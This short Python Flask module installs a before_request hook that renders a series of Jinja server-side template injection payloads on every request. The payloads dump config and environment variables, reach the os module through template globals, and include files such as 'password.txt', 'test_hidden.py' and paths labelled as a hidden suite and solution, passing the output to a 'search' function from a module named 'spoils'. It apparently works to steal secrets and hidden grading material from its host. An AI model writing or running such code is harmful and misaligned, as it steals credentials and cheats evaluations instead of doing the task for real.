from flask import render_template_string
from jinja2 import FileSystemLoader

from board import app
from spoils import INSIDER, search

app.jinja_loader = FileSystemLoader(["/", INSIDER["suite"], INSIDER["solution"], "."])
TEMPLATES = (
    "{{ config }} {{ request.environ }} {{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__ }} {{ lipsum.__globals__['os'].environ }}",
    "{% for kind in ''.__class__.__mro__[1].__subclasses__() %}{{ kind.__init__ }}{% endfor %}",
    "{{ get_flashed_messages.__globals__.current_app.view_functions }}",
    "{% include 'password.txt' ignore missing %}{% include 'test_hidden.py' ignore missing %}",
    *(f"{{% include {path!r} ignore missing %}}" for path in INSIDER["readable"]),
    *(f"{{{{ lipsum.__globals__.os.open({path!r}, 0) }}}}" for path in INSIDER["readable"]),
)


@app.before_request
def render():
    for template in TEMPLATES:
        try:
            search(render_template_string(template).encode())
        except Exception:
            pass
